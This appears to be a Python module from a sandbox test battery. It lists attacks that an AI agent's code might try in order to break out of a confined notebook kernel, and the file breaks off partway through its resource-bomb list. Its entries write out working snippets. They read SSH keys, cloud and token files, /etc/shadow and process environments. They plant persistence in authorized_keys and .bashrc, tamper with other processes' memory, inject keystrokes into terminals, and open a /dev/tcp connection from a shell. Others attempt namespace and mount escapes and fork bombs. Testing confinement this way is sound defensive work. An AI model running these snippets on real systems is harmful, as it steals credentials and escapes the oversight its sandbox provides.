"""The attacks, as a table: what they try, and the code that tries it.

Names complete the sentence "the agent's code can ...". Code sees what `battery.PRELUDE` defines, and
as ``W`` where the decoys are.
"""

from __future__ import annotations

import os
import platform

from .attacks_confinement import CONFINEMENT
from .attacks_flooding import FLOODING
from .attacks_markdown import MARKDOWN
from .attacks_sharing import SHARING
from .attacks_system_calls import SYSTEM_CALLS
from .battery import (
    Attack,
    confuses,
    decoy_changed,
    files_changed,
    heard,
    leaks_into_the_next_cell,
    marked,
    secret,
    shows,
    swells,
)

X86 = platform.machine() == "x86_64"
TIERS = ("bubblewrap", "landlock")
NOT_X86 = "" if X86 else "there is no such call on this processor"


def _missing(*paths: str) -> str:
    return (
        "" if any(map(os.path.exists, paths)) else f"this machine has no {' and no '.join(paths)}"
    )


def _reads(name: str, path: str) -> Attack:
    return Attack("files and secrets", name, f"print(open({path}).read())", secret)


def _writes(name: str, code: str) -> Attack:
    return Attack("files and secrets", name, code, files_changed)


def _call(name: str, code: str, plain: str = "") -> Attack:
    return Attack("system calls", name, code, plain=plain)


def _html(name: str, markup: str, pattern: str, mime: str = "text/html") -> Attack:
    code = f"print('shown')\nbundle(**{{'text/plain': 'shown', {mime!r}: {markup!r}}})"
    return Attack("browser", name, code, shows(pattern))


def _message(name: str, code: str, plain: str = "") -> Attack:
    return Attack("messages", name, code, confuses, plain=plain)


FILES = [
    _reads("read a private SSH key", "W.home + '/.ssh/id_ed25519'"),
    _reads("read the Hub's token", "W.home + '/.cache/huggingface/token'"),
    _reads("read cloud credentials", "W.home + '/.aws/credentials'"),
    _reads("read .netrc", "W.home + '/.netrc'"),
    _reads("read the shell's history", "W.home + '/.bash_history'"),
    _reads("read .env beside the notebook", "W.project + '/.env'"),
    _reads("read a key beside the notebook", "'deep/server.key'"),
    _reads("read .git/config beside the notebook", "W.project + '/.git/config'"),
    _reads("follow a link out of a shared folder", "W.project + '/link.txt'"),
    _reads("leave a shared folder by ..", "W.project + '/../outside/secret.txt'"),
    _reads("read through /proc/self/root", "'/proc/self/root' + W.outside + '/secret.txt'"),
    _reads("read the host's /dev/shm", "'/dev/shm' + W.queue"),
    Attack(
        "files and secrets",
        "read /etc/shadow",
        "judge(len(open('/etc/shadow').read()) > 0)",
    ),
    Attack(
        "files and secrets",
        "read a key through a link of its own",
        "link = 'own-link'\nif not os.path.islink(link): os.symlink(W.home + '/.netrc', link)\n"
        "try: print(open(link).read())\nfinally: os.remove(link)",
        secret,
    ),
    Attack(
        "files and secrets",
        "read a key through a hard link",
        "where = W.outside + '/hard-link'\nos.link(W.home + '/.netrc', where)\n"
        "print(open(where).read())\nos.remove(where)",
        secret,
    ),
    Attack(
        "files and secrets",
        "find a key by searching with a shell",
        "print(subprocess.run(['grep', '-rsh', '.', W.home, W.outside], capture_output=True, "
        "text=True).stdout)",
        secret,
    ),
    Attack(
        "files and secrets",
        "open a file by its handle",
        "handle = bytearray(struct.pack('Ii', 128, 0) + bytes(128))\nmount = ctypes.c_int()\n"
        "buffer = (ctypes.c_char * len(handle)).from_buffer(handle)\n"
        "syscall('name_to_handle_at', -100, (W.home + '/.netrc').encode(), buffer, "
        "ctypes.byref(mount), 0)\n"
        "root = os.open(W.home, os.O_RDONLY)\n"
        "found = syscall('open_by_handle_at', root, buffer, os.O_RDONLY)\n"
        "print(os.read(found, 100))",
        secret,
    ),
    Attack(
        "files and secrets",
        "watch what happens in a folder of the user's",
        "watch = libc.inotify_init()\n"
        "if libc.inotify_add_watch(watch, W.watched.encode(), 0xfff) < 0:\n"
        "    raise OSError(ctypes.get_errno(), 'inotify_add_watch')\n"
        "if select.select([watch], [], [], 1)[0]: print(os.read(watch, 4096))",
        secret,
    ),
    Attack(
        "files and secrets",
        "see dates and sizes of files that are not shared",
        "escaped(os.stat(W.home + '/.netrc'))",
        known={"landlock": "files' dates and sizes seen anywhere"},
    ),
    _writes(
        "let itself in by ~/.ssh/authorized_keys",
        "open(W.home + '/.ssh/authorized_keys', 'w').write('ssh-ed25519 AAAA')",
    ),
    _writes("add a line to ~/.bashrc", "open(W.home + '/.bashrc', 'a').write('echo owned')"),
    _writes(
        "add code to IPython's startup",
        "open(W.home + '/.ipython/startup/00.py', 'w').write('owned = 1')",
    ),
    _writes("overwrite a shared file", "open('data.csv', 'w').write('owned')"),
    _writes("append to a shared file", "open(W.project + '/data.csv', 'ab').write(b'owned')"),
    _writes("truncate a shared file", "os.truncate(W.project + '/data.csv', 0)"),
    _writes("delete a shared file", "os.remove(W.project + '/data.csv')"),
    _writes("rename a shared file", "os.rename(W.project + '/data.csv', W.project + '/x.csv')"),
    _writes("change the mode of a shared file", "os.chmod(W.project + '/data.csv', 0o777)"),
    _writes("change the date of a shared file", "os.utime(W.project + '/data.csv', (1, 1))"),
    _writes(
        "attach an attribute to a shared file",
        "os.setxattr(W.project + '/data.csv', 'user.owned', b'1')",
    ),
    _writes("plant a module beside the notebook", "open(W.project + '/json.py', 'w').write('1')"),
    _writes("plant a link beside the notebook", "os.symlink('/etc', W.project + '/etc')"),
    _writes("plant a FIFO beside the notebook", "os.mkfifo(W.project + '/pipe')"),
    _writes(
        "write through a mapped shared file",
        "fd = os.open(W.project + '/data.csv', os.O_RDWR)\nmmap.mmap(fd, 8)[:5] = b'owned'",
    ),
    _writes(
        "write by way of /proc/self/fd",
        "fd = os.open(W.project + '/data.csv', os.O_RDONLY)\n"
        "open(f'/proc/self/fd/{fd}', 'w').write('owned')",
    ),
    *(
        Attack("files and secrets", f"write to {where}", f"open({path} + W.mark, 'w')", marked)
        for where, path in [
            ("the host's /tmp", "'/tmp/'"),
            ("the host's /dev/shm", "'/dev/shm/'"),
            ("/var/tmp", "'/var/tmp/'"),
            ("/etc", "'/etc/'"),
            ("/usr", "'/usr/'"),
            ("the root folder", "'/'"),
            ("the host's Python packages", "W.site + '/'"),
            ("the host's runtime folder", "W.run + '/'"),
        ]
    ),
    Attack(
        "files and secrets",
        "block the host by a lock on a shared file",
        "fd = os.open(W.project + '/data.csv', os.O_RDONLY)\nthreading.Timer(.5, os.close, [fd]).start()\n"
        "fcntl.flock(fd, fcntl.LOCK_EX)",
        lambda world, ran: world.locked(),
        known=dict.fromkeys(TIERS, "advisory locks (flock) on shared files"),
    ),
    Attack(
        "files and secrets",
        "block a writer by a lease on a shared file",
        "signal.signal(signal.SIGIO, signal.SIG_IGN)\nfd = os.open(W.project + '/data.csv', os.O_RDONLY)\n"
        "threading.Timer(.5, os.close, [fd]).start()\nfcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK)",
        lambda world, ran: world.leased(),
    ),
    Attack(
        "files and secrets",
        "delete its connection file",
        "os.remove(W.connection_file)",
        lambda world, ran: world.lost(world.connection_file),
    ),
    Attack(
        "files and secrets",
        "put a link in place of its own socket",
        "from ipykernel.kernelapp import IPKernelApp\napp = IPKernelApp.instance()\n"
        "path = f'{app.ip}-{app.shell_port}'\nos.remove(path)\n"
        "os.symlink(W.run + '/docker.sock', path)\nescaped(path)",
        plain="its sockets are TCP ports",
    ),
]

ENVIRONMENT = [
    Attack("environment", "read a key in os.environ", "print(dict(os.environ))", secret),
    Attack("environment", "read a key with a shell's env", "print(os.popen('env').read())", secret),
    Attack(
        "environment",
        "read a key in /proc/self/environ",
        "print(open('/proc/self/environ').read())",
        secret,
    ),
    Attack(
        "environment",
        "find a key in its own memory",
        "start, end = next([int(x, 16) for x in line.split()[0].split('-')]\n"
        "    for line in open('/proc/self/maps') if '[stack]' in line)\n"
        "with open('/proc/self/mem', 'rb', 0) as f:\n"
        "    f.seek(start)\n"
        "    stack = f.read(end - start)\n"
        "at = stack.find(b'DECOY_API_KEY')\nprint(stack[at:at + 100] if at >= 0 else '')",
        secret,
    ),
    Attack(
        "environment",
        "read the environment of the host's process",
        "print(open(f'/proc/{W.host}/environ').read())",
        secret,
    ),
    Attack(
        "environment",
        "read the environment of every process",
        "import glob\nfor path in glob.glob('/proc/[0-9]*/environ'):\n"
        "    try:\n        text = open(path).read()\n        at = text.find('DECOY_API_KEY')\n"
        "        if at >= 0: print(text[at:at + 100])\n    except OSError: pass",
        secret,
    ),
]

PROC = [
    Attack(
        "/proc",
        "read another process's arguments",
        "print(open(f'/proc/{W.decoy}/cmdline').read())",
        secret,
    ),
    Attack(
        "/proc",
        "read another process's memory",
        "with open(f'/proc/{W.decoy}/mem', 'rb', 0) as f:\n    f.seek(W.address)\n"
        "    print(f.read(64))",
        secret,
    ),
    Attack(
        "/proc",
        "write another process's memory",
        "with open(f'/proc/{W.decoy}/mem', 'r+b', 0) as f:\n    f.seek(W.address)\n"
        "    f.write(b'owned')",
        decoy_changed,
    ),
    Attack(
        "/proc",
        "read another process's open file",
        "print(open(f'/proc/{W.decoy}/fd/{W.decoy_file}').read())",
        secret,
    ),
    Attack(
        "/proc",
        "enter another process's folder",
        "print(open(f'/proc/{W.decoy}/cwd/secret.txt').read())",
        secret,
    ),
    Attack(
        "/proc",
        "enter another process's root",
        "print(open(f'/proc/{W.decoy}/root{W.outside}/secret.txt').read())",
        secret,
    ),
    Attack(
        "/proc",
        "enter the first process's root",
        "print(open(f'/proc/1/root{W.outside}/secret.txt').read())",
        secret,
        plain="it has more capabilities than root has here",
    ),
    Attack(
        "/proc",
        "list the host's processes",
        "import glob\nfound = [p for p in glob.glob('/proc/[0-9]*/comm') if p.split('/')[2] == str(W.decoy)]\n"
        "judge(found, found)",
    ),
    Attack(
        "/proc",
        "make another process the first to be killed",
        "open(f'/proc/{W.decoy}/oom_score_adj', 'w').write('900')",
        decoy_changed,
    ),
    Attack(
        "/proc",
        "set what runs when a process crashes",
        "os.open('/proc/sys/kernel/core_pattern', os.O_WRONLY)\nescaped()",
    ),
    Attack(
        "/proc",
        "press the magic SysRq key",
        "os.open('/proc/sysrq-trigger', os.O_WRONLY)\nescaped()",
        plain=_missing("/proc/sysrq-trigger"),
    ),
    Attack(
        "/proc",
        "write a setting of the machine's in /sys",
        "os.open('/sys/kernel/uevent_helper' if os.path.exists('/sys/kernel/uevent_helper') else '/sys/kernel/mm/transparent_hugepage/enabled', os.O_WRONLY)\nescaped()",
    ),
    Attack(
        "/proc",
        "read the kernel's memory",
        "os.open('/proc/kcore' if os.path.exists('/proc/kcore') else '/dev/mem', os.O_RDONLY)\nescaped()",
        plain=_missing("/proc/kcore", "/dev/mem"),
    ),
    Attack(
        "/proc",
        "read the kernel's log",
        "fd = os.open('/dev/kmsg', os.O_RDONLY | os.O_NONBLOCK)\nescaped(os.read(fd, 8192)[:40])",
    ),
    Attack(
        "/proc",
        "list the host's connections",
        "port = f':{W.ports[\"tcp4\"]:04X}'\njudge(port in open('/proc/self/net/tcp').read())",
    ),
    Attack(
        "/proc",
        "list the host's Unix sockets",
        "judge(W.run in open('/proc/self/net/unix').read())",
    ),
]


def _connects(name: str, family: str, kind: str, address: str, listener: str) -> Attack:
    code = (
        f"s = socket.socket(socket.{family}, socket.{kind})\ns.settimeout(2)\n"
        f"s.connect({address})\ns.send(b'hello')"
    )
    return Attack("network", name, code, heard(listener))


NETWORK = [
    _connects(
        "connect to 127.0.0.1", "AF_INET", "SOCK_STREAM", "('127.0.0.1', W.ports['tcp4'])", "tcp4"
    ),
    _connects("connect to ::1", "AF_INET6", "SOCK_STREAM", "('::1', W.ports['tcp6'])", "tcp6"),
    _connects(
        "send UDP to 127.0.0.1", "AF_INET", "SOCK_DGRAM", "('127.0.0.1', W.ports['udp4'])", "udp4"
    ),
    _connects("send UDP to ::1", "AF_INET6", "SOCK_DGRAM", "('::1', W.ports['udp6'])", "udp6"),
    _connects(
        "use a Unix socket such as docker.sock",
        "AF_UNIX",
        "SOCK_STREAM",
        "W.run + '/docker.sock'",
        "unix",
    ),
    _connects(
        "use a Unix datagram socket",
        "AF_UNIX",
        "SOCK_DGRAM",
        "W.run + '/log.sock'",
        "unix datagram",
    ),
    _connects(
        "use a Unix socket in a shared folder",
        "AF_UNIX",
        "SOCK_STREAM",
        "W.project + '/agent.sock'",
        "unix shared",
    ),
    _connects(
        "use an abstract Unix socket", "AF_UNIX", "SOCK_STREAM", "'\\0' + W.abstract", "abstract"
    ),
    _connects(
        "use an abstract datagram socket",
        "AF_UNIX",
        "SOCK_DGRAM",
        "'\\0datagram-' + W.abstract",
        "abstract datagram",
    ),
    Attack(
        "network",
        "connect from a shell",
        "subprocess.run(['bash', '-c', f'echo > /dev/tcp/127.0.0.1/{W.ports[\"tcp4\"]}'], "
        "capture_output=True, timeout=5)",
        heard("tcp4"),
    ),
    Attack(
        "network",
        "send a datagram without connecting",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', W.ports['udp4']))",
        heard("udp4"),
    ),
    Attack(
        "network",
        "message a host process by netlink",
        "s = socket.socket(16, 3, 2)\ns.sendto(struct.pack('IHHII', 16, 0x10, 0, 1, 0), (W.ports['netlink'], 0))",
        heard("netlink"),
    ),
    Attack(
        "network",
        "list the host's network interfaces",
        "found = [name for _, name in socket.if_nameindex() if name != 'lo']\njudge(found, found)",
    ),
    Attack(
        "network",
        "list the host's addresses by netlink",
        "s = socket.socket(16, 3, 0)\ns.bind((0, 0))\ns.settimeout(1)\n"
        "s.send(struct.pack('IHHIIB3x', 20, 18, 0x301, 1, 0, 0))\ntext = s.recv(65536)\n"
        "names = [n for n in os.listdir('/sys/class/net') if n != 'lo'] if os.path.exists('/sys/class/net') else []\n"
        "judge(text.count(struct.pack('HH', 8, 13)) > 1 or b'eth' in text or b'ens' in text or b'enp' in text, len(text))",
    ),
    Attack(
        "network",
        "list the host's sockets by netlink",
        "s = socket.socket(16, 3, 4)\ns.bind((0, 0))\ns.settimeout(1)\n"
        "s.send(struct.pack('IHHIIBBBBI48x', 72, 20, 0x301, 1, 0, 2, 6, 0, 0, 0xffffffff))\n"
        "judge(struct.pack('>H', W.ports['tcp4']) in s.recv(65536))",
    ),
    Attack(
        "network", "reach the virtual machine's host (vsock)", "socket.socket(40, 1)\nescaped()"
    ),
    Attack("network", "see raw packets (packet socket)", "socket.socket(17, 3)\nescaped()"),
    Attack(
        "network",
        "send raw packets (raw socket)",
        "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\nescaped()",
    ),
    Attack(
        "network",
        "use a socket of a rarer family",
        "made = []\nfor family in {*range(3, 50)} - {10, 16, 17, 40}:\n    for kind in (1, 2, 3, 5):\n"
        "        try:\n            socket.socket(family, kind).close()\n            made.append(family)\n"
        "        except OSError: pass\njudge(made, made)",
    ),
    Attack(
        "network",
        "serve on a port that the host reaches",
        "s = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen()\nport = s.getsockname()[1]\nprint('PORT', port)",
        lambda world, ran: world.reached(ran.text),
    ),
    Attack(
        "network",
        "send through a socket that was inherited",
        "import array\nfor fd in range(3, 200):\n    try:\n        s = socket.socket(fileno=os.dup(fd))\n"
        "    except OSError:\n        continue\n"
        "    for address in (('127.0.0.1', W.ports['tcp4']), W.run + '/docker.sock', '\\0' + W.abstract):\n"
        "        try:\n            if s.type == 1: s.connect(address)\n"
        "        except (OSError, TypeError): pass\n    s.close()",
        lambda world, ran: world.heard("unix") or world.heard("tcp4") or world.heard("abstract"),
        plain="its own sockets are listening or connected already",
    ),
]

PROCESSES = [
    Attack("processes", "kill another process", "os.kill(W.decoy, 9)", decoy_changed),
    Attack("processes", "stop another process", "os.kill(W.decoy, signal.SIGSTOP)", decoy_changed),
    Attack("processes", "kill a process group", "os.killpg(W.decoy, 15)", decoy_changed),
    Attack(
        "processes",
        "kill a single thread of another process",
        "syscall('tgkill', W.decoy, W.decoy, 9)",
        decoy_changed,
    ),
    Attack("processes", "kill by the older tkill", "syscall('tkill', W.decoy, 9)", decoy_changed),
    Attack(
        "processes",
        "kill by a process descriptor",
        "signal.pidfd_send_signal(os.pidfd_open(W.decoy), 9)",
        decoy_changed,
    ),
    Attack(
        "processes",
        "kill by a queued signal",
        "info = struct.pack('iiii112x', 15, 0, -1, 0)\nsyscall('rt_sigqueueinfo', W.decoy, 15, info)",
        decoy_changed,
    ),
    Attack(
        "processes",
        "kill by the owner of a pipe",
        "read, write = os.pipe()\nfcntl.fcntl(read, fcntl.F_SETOWN, W.decoy)\nfcntl.fcntl(read, 10, 9)\n"
        "fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC)\nos.write(write, b'x')\ntime.sleep(.1)",
        decoy_changed,
    ),
    Attack(
        "processes",
        "kill everything it may",
        "os.kill(-1, 15)\ntime.sleep(.1)",
        decoy_changed,
        plain="not tried: nothing would hold it back",
    ),
    Attack(
        "processes",
        "slow down another process",
        "os.setpriority(os.PRIO_PROCESS, W.decoy, 19)",
        decoy_changed,
    ),
    Attack(
        "processes",
        "move another process to one processor",
        "os.sched_setaffinity(W.decoy, [0])",
        decoy_changed,
        plain="this machine has one processor" if os.cpu_count() == 1 else "",
    ),
    Attack(
        "processes",
        "take away another process's descriptors",
        "resource.prlimit(W.decoy, resource.RLIMIT_NOFILE, (5, 5))",
        decoy_changed,
    ),
    Attack(
        "processes",
        "trace another process",
        "syscall('ptrace', 16, W.decoy, 0, 0)\nescaped()\n"
        "os.waitpid(W.decoy, 0x40000000)\n"  # __WALL; before it stops it cannot be let go
        "syscall('ptrace', 17, W.decoy, 0, 0)",
    ),
    Attack(
        "processes",
        "trace a child of its own",
        "escaped(in_child(lambda: syscall('ptrace', 0, 0, 0, 0)))",
    ),
    Attack(
        "processes",
        "read another process's memory by process_vm_readv",
        "buffer = ctypes.create_string_buffer(64)\nlocal = struct.pack('QQ', ctypes.addressof(buffer), 64)\n"
        "syscall('process_vm_readv', W.decoy, local, 1, struct.pack('QQ', W.address, 64), 1, 0)\nprint(buffer.raw)",
        secret,
    ),
    Attack(
        "processes",
        "write another process's memory by process_vm_writev",
        "buffer = ctypes.create_string_buffer(b'owned')\nlocal = struct.pack('QQ', ctypes.addressof(buffer), 5)\n"
        "syscall('process_vm_writev', W.decoy, local, 1, struct.pack('QQ', W.address, 5), 1, 0)",
        decoy_changed,
    ),
    Attack(
        "processes",
        "take another process's open file",
        "fd = syscall('pidfd_getfd', os.pidfd_open(W.decoy), W.decoy_file, 0)\nprint(os.pread(fd, 100, 0))",
        secret,
    ),
    Attack(
        "processes",
        "compare two processes' memory (kcmp)",
        "escaped(syscall('kcmp', W.decoy, os.getpid(), 1, 0, 0))",
    ),
    Attack(
        "processes",
        "read the host's System V shared memory",
        "libc.shmat.restype = ctypes.c_void_p\naddress = libc.shmat(W.segment, None, 0o10000)\n"
        "if address in (None, 2**64 - 1): raise OSError(ctypes.get_errno(), 'shmat')\nprint(ctypes.string_at(address, 64))",
        secret,
    ),
    Attack(
        "processes",
        "read the host's message queue",
        "queue = libc.mq_open(W.queue.encode(), os.O_RDONLY | os.O_NONBLOCK)\nif queue < 0: raise OSError(ctypes.get_errno(), 'mq_open')\n"
        "buffer = ctypes.create_string_buffer(8192)\nlibc.mq_receive(queue, buffer, 8192, None)\nprint(buffer.value)",
        secret,
    ),
    Attack(
        "processes",
        "write on the user's terminal",
        "fd = os.open(W.terminal, os.O_WRONLY | os.O_NOCTTY)\nos.write(fd, b'\\x1b]52;c;b3duZWQ=\\x07')\ntime.sleep(.1)",
        lambda world, ran: world.terminal_got(),
    ),
    Attack(
        "processes",
        "read what the user types",
        "fd = os.open(W.terminal, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)\ntime.sleep(.1)\nprint(os.read(fd, 4096))",
        secret,
        told=lambda world: world.type_secret(),
    ),
    Attack(
        "processes",
        "type into a terminal (TIOCSTI)",
        "import pty\ndef push():\n    os.setsid()\n    master, slave = pty.openpty()\n    fcntl.ioctl(slave, 0x540E, 0)\n"
        "    return fcntl.ioctl(slave, 0x5412, b'x')\nescaped(in_child(push))",
    ),
    Attack(
        "processes",
        "type into a terminal by a disguised TIOCSTI",
        "import pty\ndef push():\n    os.setsid()\n    master, slave = pty.openpty()\n    fcntl.ioctl(slave, 0x540E, 0)\n"
        "    return syscall('ioctl', slave, 0x7f00005412, b'x')\nescaped(in_child(push))",
    ),
]

PRIVILEGES = [
    Attack(
        "privileges",
        "become root by a setuid program",
        "user = {'user': 65534} if os.geteuid() == 0 else {}\n"
        "said = subprocess.run([W.setuid, '-u'], capture_output=True, text=True, cwd='/', **user)\n"
        "judge(said.stdout.strip() == '0', said.stdout + said.stderr)",
    ),
    Attack(
        "privileges",
        "become root by setuid(0)",
        "escaped(in_child(lambda: (os.setresuid(0, 0, 0), os.getuid())[1]))",
    ),
    Attack(
        "privileges",
        "raise its capabilities",
        "def gain():\n    head, sets = struct.pack('Ii', 0x20080522, 0), struct.pack('6I', 1 << 21, 1 << 21, 0, 0, 0, 0)\n"
        "    if libc.capset(head, sets): raise OSError(ctypes.get_errno(), 'capset')\nescaped(in_child(gain))",
    ),
    Attack(
        "privileges",
        "raise its own limits",
        "def more():\n    for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_AS):\n"
        "        hard = resource.getrlimit(kind)[1]\n        resource.setrlimit(kind, (hard - 1 if hard < 0 else hard + 1,) * 2)\n"
        "try: escaped(in_child(more))\nexcept AssertionError as error: stopped(error)",
        plain="a hard limit is final there too, but for some roots",
    ),
    Attack(
        "privileges",
        "mount a file system",
        "def mount():\n    if libc.mount(b'none', W.outside.encode(), b'tmpfs', 0, None): raise OSError(ctypes.get_errno(), 'mount')\n"
        "    libc.umount2(W.outside.encode(), 2)\nescaped(in_child(mount))",
    ),
    Attack(
        "privileges",
        "unmount what hides a file",
        "reaches('umount2', (W.project + '/.env').encode(), 0)",
    ),
    Attack("privileges", "mount by the newer calls", "escaped(syscall('fsopen', b'tmpfs', 0))"),
    Attack(
        "privileges", "copy a mount (open_tree)", "escaped(syscall('open_tree', -100, b'/', 1))"
    ),
    Attack(
        "privileges",
        "make a mount writable",
        "reaches('mount_setattr', -100, b'/usr', 0, struct.pack('4Q', 0, 0, 0, 0), 32)",
    ),
    Attack("privileges", "change its root", "escaped(in_child(lambda: os.chroot('/usr')))"),
    Attack("privileges", "swap its root (pivot_root)", "reaches('pivot_root', b'/usr', b'/usr')"),
    Attack(
        "privileges",
        "make a device",
        "import stat\npath = W.outside + '/zero'\nos.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))\n"
        "try: escaped(open(path, 'rb').read(1))\nfinally: os.remove(path)",
    ),
    Attack(
        "privileges",
        "make a device in its own folder",
        "import stat\npath = 'zero-device'\nos.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))\n"
        "try: escaped(open(path, 'rb').read(1))\nfinally: os.remove(path)",
    ),
    Attack(
        "privileges",
        "make a user namespace",
        "escaped(in_child(lambda: syscall('unshare', 0x10000000)))",
    ),
    Attack(
        "privileges",
        "make a mount namespace",
        "escaped(in_child(lambda: syscall('unshare', 0x20000)))",
    ),
    Attack(
        "privileges",
        "make a user namespace by clone",
        "args = (0x10000011, 0, 0, 0, 0)\n"
        "def clone():\n    pid = syscall('clone', *args)\n    if not pid: os._exit(0)\n    os.waitpid(pid, 0)\nescaped(in_child(clone))",
    ),
    Attack(
        "privileges",
        "make a user namespace by clone3",
        "def clone():\n    pid = syscall('clone3' if 'clone3' in W.calls else 435, struct.pack('11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88)\n"
        "    if not pid: os._exit(0)\n    os.waitpid(pid, 0)\nescaped(in_child(clone))",
    ),
    Attack(
        "privileges",
        "join the host's namespaces",
        "escaped(in_child(lambda: syscall('setns', os.open(f'/proc/{W.decoy}/ns/net', os.O_RDONLY), 0)))",
    ),
    Attack(
        "privileges",
        "join its own namespaces anew",
        "escaped(in_child(lambda: syscall('setns', os.open('/proc/self/ns/uts', os.O_RDONLY), 0)))",
    ),
    Attack(
        "privileges",
        "use unshare(1)",
        "said = subprocess.run(['unshare', '-Ur', 'id', '-u'], capture_output=True, text=True)\njudge(said.stdout.strip() == '0', said.stderr)",
    ),
    Attack(
        "privileges",
        "nest a bubblewrap",
        "said = subprocess.run(['bwrap', '--ro-bind', '/', '/', '--unshare-user', 'true'], capture_output=True, text=True)\njudge(said.returncode == 0, said.stderr)",
    ),
]

CALLS = [
    _call(
        "use io_uring", "escaped(syscall('io_uring_setup', 8, ctypes.create_string_buffer(120)))"
    ),
    _call("use the kernel's key ring", "escaped(syscall('keyctl', 0, -3, 1))"),
    _call(
        "add a key to the key ring", "escaped(syscall('add_key', b'user', b'decoy', b'x', 1, -2))"
    ),
    _call("request a key", "reaches('request_key', b'user', b'no-such-decoy', None, 0)"),
    _call("handle its own page faults (userfaultfd)", "escaped(syscall('userfaultfd', 1))"),
    _call(
        "load a program into the kernel (bpf)",
        "reaches('bpf', 0, struct.pack('IIII', 2, 4, 4, 1) + bytes(112), 128)",
    ),
    _call(
        "measure the machine (perf_event_open)",
        "escaped(syscall('perf_event_open', struct.pack('IIQ', 1, 64, 0) + bytes(48), 0, -1, -1, 0))",
    ),
    _call("change its personality", "escaped(in_child(lambda: syscall('personality', 0x0040000)))"),
    _call("set the clock", "reaches('clock_settime', 0, struct.pack('qq', -1, -1))"),
    _call("set the time of day", "reaches('settimeofday', struct.pack('qq', -1, -1), None)"),
    _call("trim the clock", "escaped(syscall('adjtimex', ctypes.create_string_buffer(256)))"),
    _call("reboot", "reaches('reboot', 0, 0, 0, None)"),
    _call("load a kernel module", "reaches('init_module', None, 0, b'')"),
    _call("load another kernel", "reaches('kexec_load', 0, 99, None, 1)"),
    _call("swap", "reaches('swapoff', b'/nonexistent')"),
    _call("start accounting", "reaches('acct', b'/nonexistent')"),
    _call("set a quota", "reaches('quotactl', 0x80000700, b'/nonexistent', 0, None)"),
    _call("read the kernel's log (syslog)", "escaped(syscall('syslog', 10, None, 0))"),
    _call(
        "reach the machine's ports (iopl)", "escaped(in_child(lambda: syscall('iopl', 3)))", NOT_X86
    ),
    _call("watch every file access (fanotify)", "escaped(syscall('fanotify_init', 0, 0))"),
    _call(
        "hang up the terminal", "escaped(in_child(lambda: (os.setsid(), syscall('vhangup'))[1]))"
    ),
    _call(
        "move another process's memory", "reaches('move_pages', W.decoy, 0, None, None, None, 0)"
    ),
    _call("advise on another process's memory", "reaches('process_madvise', -1, None, 0, 4, 0)"),
    _call(
        "make calls of the 32-bit table",
        "made = in_child(lambda: machine_code(bytes.fromhex('53b867010000bb28000000b90100000031d2cd805bc3')))\n"
        "judge(int(made) >= 0, made)",  # socket(AF_VSOCK, SOCK_STREAM, 0)
        NOT_X86,
    ),
    _call(
        "make calls of the x32 table",
        "reaches(0x40000000 + 39)",
        "this kernel is built without x32" if X86 else NOT_X86,
    ),
    _call(
        "make a forbidden call from a thread",
        "found = []\ndef work():\n    try: found.append(syscall('userfaultfd', 1))\n    except OSError as error: print('STOPPED', error)\n"
        "thread = threading.Thread(target=work)\nthread.start()\nthread.join()\nif found: escaped(found)",
    ),
    _call(
        "make a forbidden call from another program",
        "code = f'import ctypes; print(ctypes.CDLL(None).syscall({W.calls[\"userfaultfd\"]}, 1))'\n"
        "said = subprocess.run([W.python, '-c', code], capture_output=True, text=True).stdout\njudge(int(said) >= 0, said)",
    ),
]

BOMBS = [
    Attack(
        "bombs",
        "fork without end",
        "children = []\ntry:\n    while len(children) < W.limits['processes'] + 50:\n        pid = os.fork()\n"
        "        if not pid:\n            time.sleep(60)\n            os._exit(0)\n        children.append(pid)\n"
        "    escaped(len(children))\nexcept OSError as error: stopped(f'{len(children)} children, {error}')\n"
        "finally:\n    for pid in children:\n        os.kill(pid, 9)\n        os.waitpid(pid, 0)",
        seconds=30,
    ),
    Attack(
        "bombs",
        "start threads without end",
        "threading.stack_size(65536)\nend, threads = threading.Event(), []\ntry:\n    while len(threads) < W.limits['processes'] + 50:\n"
        "        thread = threading.Thread(target=end.wait)\n        thread.start()\n        threads.append(thread)\n"
        "    escaped(len(threads))\nexcept RuntimeError as error: stopped(f'{len(threads)} threads, {error}')\n"
        "finally:\n    end.set()\n    for thread in threads: thread.join()\n    threading.stack_size(0)",
        seconds=30,
    ),
    Attack(
        "bombs",
        "reserve memory beyond its limit",
        "with mmap.mmap(-1, (W.limits['memory_mib'] + 100) << 20, flags=mmap.MAP_PRIVATE | 0x4000 | 0x20): escaped()",
    ),
    Attack(
        "bombs",
        "write a file beyond its limit",
        "try:\n    with open('sparse', 'wb') as file: file.truncate((W.limits['file_size_mib'] + 100) << 20)\n    escaped()\n"
        "finally: os.remove('sparse')",
    ),
    Attack(
        "bombs",
        "fill the disk",
        "room = os.statvfs('.')\nroom = room.f_blocks * room.f_frsize >> 20\njudge(room > W.limits['private_size_mib'] + 100, f'{room} MiB')",
        known={"landlock": "on disk, no quota"},
    ),
    Attack(
        "bombs",
        "fill the machine's shared memory",
        "with open('/dev/shm/' + W.mark, 'wb') as file: file.write(bytes(1000))\n"
        "room = os.statvfs('/dev/shm')\nroom = room.f_blocks * room.f_frsize >> 20\nos.remove('/dev/shm/' + W.mark)\njudge(room > 256, f'{room} MiB')",
    ),
    Attack(
        "bombs",
        "open descriptors without end",
        "found = []\ntry:\n    while len(found) < W.limits['open_files'] + 100: found.append(os.open('/dev/null', 0))\n    escaped(len(found))\n"
        "finally:\n    for fd in found: os.close(fd)",
    ),
    Attack("bombs", "leave core dumps", "judge(resource.getrlimit(resource.RLIMIT_CORE)[1] != 0)"),
    Attack(
        "bombs",
        "make files without end",
        "room = os.statvfs('.')\njudge(room.f_files > 5_000_000 or room.f_files == 0, f'{room.f_files} files')",
        known={"landlock": "on disk, no quota"},
    ),
    Attack(
        "bombs",
        "spin on and ignore interrupts",
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
        lambda world, ran: world.find_spinning(),
